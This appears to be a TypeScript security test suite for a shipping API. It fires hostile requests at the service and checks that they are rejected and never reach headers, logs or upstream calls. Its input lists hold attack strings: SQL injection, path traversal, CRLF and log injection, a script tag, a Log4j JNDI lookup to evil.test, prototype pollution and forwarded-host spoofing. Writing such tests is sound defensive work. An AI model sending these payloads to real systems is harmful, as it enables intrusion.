import * as fc from 'fast-check';
import { eventually } from '../../testing/upstream/eventually';
import { VALID_REQUEST_ID } from '../support/expected';
import { useScriptedService } from '../support/service';
import { anyMutationOf } from './support/any-mutation';
import { exchangeRaw, RawConnection, type RawResponse } from './support/raw-connection';

/** Stands in every hostile text, so that it can be looked for where no part of the input may turn up. */
const MARK = 'ZQX';

/** Texts as an attacker might send them, percent-encoded where a request line needs it, with the status of a search. */
const HOSTILE_TEXTS: readonly { readonly name: string; readonly text: string; readonly status: 200 | 400 }[] = [
  { name: 'SQL', text: `'%20OR%20'1'='1';--${MARK}`, status: 200 },
  { name: 'dot segments', text: `..%2F..%2F${MARK}`, status: 200 },
  { name: 'a URL', text: `http:%2F%2Fevil.test%2F${MARK}`, status: 200 },
  { name: 'CR and LF', text: `a%0D%0AX-Injected:%20${MARK}`, status: 400 },
  { name: 'LF alone', text: `a%0A{"level":30,"msg":"${MARK}"}`, status: 400 },
  { name: 'NUL', text: `a%00${MARK}`, status: 400 },
  { name: 'an escape sequence of terminals', text: `%1B[31m${MARK}`, status: 400 },
  { name: 'NEL, a control character beyond ASCII', text: `a%C2%85${MARK}`, status: 400 },
  { name: 'a line separator of Unicode', text: `%E2%80%A8${MARK}`, status: 200 },
  { name: 'a stray percent sign', text: `%${MARK}`, status: 400 },
  { name: 'overlong UTF-8', text: `%C0%AF${MARK}`, status: 400 },
  { name: 'Latin-1', text: `G%F6teborg${MARK}`, status: 400 },
  { name: 'a script', text: `<script>alert(${MARK})</script>`, status: 200 },
  { name: 'a lookup of Log4j', text: `$%7Bjndi:ldap://evil.test/${MARK}%7D`, status: 200 },
  { name: 'a parameter in a value', text: `a%26Status=Delivered%26${MARK}=1`, status: 200 },
  { name: '__proto__', text: `__proto__[${MARK}]=1`, status: 200 },
  { name: '15,000 characters', text: `${MARK}${'x'.repeat(15_000)}`, status: 400 },
];

/** A list of strings without parameters (RFC 9651). */
const LIST_OF_STRINGS = /^("([ !#-[\]-~]|\\["\\])*"(, (?=")|$))+$/;
const KNOWN_HEADERS =
  /^(?:content-|cross-origin-|x-(?:request-id|content-type-options|frame-options)|referrer-policy|vary|cache-control)/;
const ALSO_KNOWN =
  /^(?:etag|link|date|connection|keep-alive|allow|preference-applied|shipping-completeness|shipping-ignored-parameters)$/;
const EXTERNAL_PATH = /^\/shippings\/(?:single|details|paged|by-id\/[A-Za-z0-9._-]+)$/;
const TRACE = /^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/;

interface Row {
  readonly name: string;
  readonly target: string;
  readonly statuses: readonly number[];
  readonly header?: string;
}

const TEXT_ROWS = HOSTILE_TEXTS.flatMap(({ name, text, status }): Row[] => [
  { name: `SearchTerm: ${name}`, target: `/api/Shipping/GetShippingDetails?SearchTerm=${text}`, statuses: [status] },
  { name: `the identifier: ${name}`, target: `/api/Shipping/GetShippingInfoById/${text}`, statuses: [400, 404] },
]);

const LIST = '/api/Shipping/GetShippingPagedList';
const LONG = 15_000;
const PROTO = '__proto__=1&__proto__[Status]=Delivered&constructor.prototype=1';
const STRICT = 'Prefer: handling=strict';
const TARGET_ROWS: readonly Row[] = [
  { name: '15,000 separators', target: `${LIST}?${'&'.repeat(LONG)}`, statuses: [200] },
  { name: 'nested brackets', target: `${LIST}?a${'[b]'.repeat(2_500)}=1`, statuses: [200] },
  { name: 'names of prototypes', target: `${LIST}?${PROTO}`, statuses: [200] },
  { name: 'a name as long as can be', target: `${LIST}?${'x'.repeat(LONG)}=1`, statuses: [400], header: STRICT },
  { name: 'a quote and angle brackets, raw', target: `${LIST}?SearchTerm="<${MARK}>"`, statuses: [200] },
  { name: 'slashes without end', target: `${'/'.repeat(LONG)}nowhere`, statuses: [404] },
  { name: 'a dot segment to the operation', target: '/api/Other/../Shipping/GetShippingDetails', statuses: [404] },
  { name: 'a bad escape in the route', target: `/api/Shipping/%${MARK}`, statuses: [400, 404] },
];

const HEADER_ROWS = [
  { name: 'X-Request-Id with JSON', header: `X-Request-Id: ","level":60,"x":"${MARK}` },
  { name: 'X-Request-Id beyond ASCII', header: `X-Request-Id: \xe9${MARK}` },
  { name: 'an escaped line break in X-Request-Id', header: `X-Request-Id: %0d%0aX-Injected:${MARK}` },
  { name: 'a traceparent of nonsense', header: `traceparent: ${MARK}` },
  { name: 'Prefer of quotes', header: `Prefer: ${'"'.repeat(15_001)}` },
  { name: 'another host', header: 'X-Forwarded-Host: evil.test\r\nForwarded: host=evil.test' },
  { name: 'another method', header: 'X-HTTP-Method-Override: DELETE' },
  { name: 'credentials', header: `Authorization: Bearer ${MARK}\r\nCookie: session=${MARK}` },
].map((row): Row => ({ ...row, target: '/api/Shipping/GetShippingDetails?Limit=1', statuses: [200] }));

const ROWS: readonly Row[] = [...TEXT_ROWS, ...TARGET_ROWS, ...HEADER_ROWS];

describe('hostile input', () => {
  const scripted = useScriptedService();

  it.each(ROWS)('$name', async ({ target, statuses, header = 'Accept: */*' }) => {
    const { service, upstream } = scripted;
    const loggedBefore = service.log.length;
    const bytes = `GET ${target} HTTP/1.1\r\nHost: service.test\r\n${header}\r\nConnection: close\r\n\r\n`;

    const [response] = await exchangeRaw(service.url, bytes);
    if (response === undefined) throw new Error('The connection ended without a response');
    expect(statuses).toContain(response.status);
    expectCleanHeaders(response);

    if (response.status >= 400) expect(upstream.calls).toEqual([]);
    for (const call of upstream.calls) {
      expect(call.path).toMatch(EXTERNAL_PATH);
      expect(call.headers.host).toBe(new URL(upstream.url).host);
      expect(call.headers.traceparent).toMatch(TRACE);
      expect(call.headers['x-request-id']).toMatch(VALID_REQUEST_ID);
      const expected = ['accept', 'connection', 'host', 'traceparent', 'user-agent', 'x-request-id'];
      expect(Object.keys(call.headers).sort()).toEqual(expected);
    }

    await eventually('a line of the log', () => service.log.length > loggedBefore);
    const [line = '', ...others] = service.log.slice(loggedBefore);
    expect(others).toEqual([]);
    expect(JSON.parse(line)).toMatchObject({ msg: 'request', status: response.status });
    expect(line).not.toMatch(new RegExp(`${MARK}|evil|injected|\\n.`, 'i'));
  });

  const anyRequest = fc
    .constantFrom(
      '/api/Shipping/GetShippingSingle?Id=SHP-1',
      '/api/Shipping/GetShippingInfoById/SHP-1',
      '/api/Shipping/GetShippingDetails?Status=InTransit&Limit=5&FromDate=2024-01-01',
      '/api/Shipping/GetShippingPagedList?PageNumber=1&PageSize=2&SortBy=Status&SortDirection=asc',
      ...['/health/ready', '/docs?x=%41'],
    )
    .map((target) => `GET ${target} HTTP/1.1\r\nHost: a\r\nIf-None-Match: W/"a"\r\nPrefer: handling=strict\r\n\r\n`)
    .chain(anyMutationOf);

  it('a request with mutated bytes is never a server error', async () => {
    const seen = new Set<number>();
    await fc.assert(
      fc.asyncProperty(anyRequest, async (bytes) => {
        const connection = await RawConnection.to(scripted.service.url);
        // What was cut off ends with the next request, which ends the connection.
        connection.send(`${bytes}\r\n\r\nGET /health/live HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
        await connection.ending;
        for (const { status } of connection.responses) seen.add(status);
        expect([...seen].filter((status) => !(status >= 200 && status < 500))).toEqual([]);
      }),
    );
    expect([...seen]).toEqual(expect.arrayContaining([200, 400]));
    expect(scripted.service.log.filter((line) => /"level":[56]0/.test(line))).toEqual([]);
  });
});

/** Nothing of the input became a header, and the request id is fit for anything. */
function expectCleanHeaders({ headers }: RawResponse): void {
  expect(headers['x-request-id']).toEqual([expect.stringMatching(VALID_REQUEST_ID)]);
  expect(headers['x-request-id']?.[0]).not.toContain(MARK);
  expect(Object.keys(headers).filter((name) => !KNOWN_HEADERS.test(name) && !ALSO_KNOWN.test(name))).toEqual([]);
  for (const list of headers['shipping-ignored-parameters'] ?? []) expect(list).toMatch(LIST_OF_STRINGS);
  expect(headers.link ?? []).toEqual((headers.link ?? []).filter((value) => /^[\x20-\x7e]+$/.test(value)));
}
